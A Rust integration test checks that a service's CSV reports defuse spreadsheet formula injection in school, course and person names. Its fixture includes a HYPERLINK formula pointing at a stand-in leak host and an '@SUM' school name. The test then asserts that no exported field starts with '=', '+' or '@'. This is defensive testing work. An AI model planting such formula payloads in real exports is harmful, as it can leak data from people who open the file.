//! No CSV the service produces carries a live spreadsheet formula: names typed by people (a
//! school, a course, a person) that start like a formula come out as text.

use serde_json::json;

use crate::booking_support::{bk_book_ok, bk_course, bk_person, bk_world};

crate::both_backends! {
    async fn report_csvs_carry_no_formulas(app: TestApp) {
        let w = bk_world(&app).await;
        let formula = "=HYPERLINK(\"http://x.example/?leak\",\"y\")";
        let course = bk_course(&app, &w, formula, 5, |_| {}).await;
        let school = app
            .admin_create(
                "/api/v1/schools",
                json!({"urn": 990_001, "name": "@SUM(A1) Academy", "phase": "primary"}),
            )
            .await;
        let who = bk_person(&app, "Sam Safe", Some(school["id"].as_str().unwrap()), None, &[]).await;
        bk_book_ok(&app, &course, &who).await;
        let from = (chrono::Utc::now() + chrono::Duration::days(20)).date_naive();
        let to = from + chrono::Duration::days(20);
        // The impact CSV lists only groups with evaluations; it is encoded by the same
        // writer (`api::csv::record`) as these.
        for (report, group_by) in [("engagement", "course"), ("engagement", "school")] {
            let path = format!(
                "/api/v1/reports/{report}?from={from}&to={to}&group_by={group_by}&format=csv"
            );
            let r = app.get(&path, Some(&app.admin_token)).await;
            assert_eq!(r.status(), 200, "{path}");
            let text = r.text().await.unwrap();
            for line in text.trim_start_matches('\u{feff}').lines() {
                for field in line.split(',') {
                    let field = field.trim_start_matches('"');
                    assert!(
                        !field.starts_with(['=', '+', '@']),
                        "a live formula in {path}: {line}"
                    );
                }
            }
            let defused = match group_by {
                "course" => "'=HYPERLINK(",
                _ => "'@SUM(A1) Academy",
            };
            assert!(text.contains(defused), "{path}: {text}");
        }
    }
}
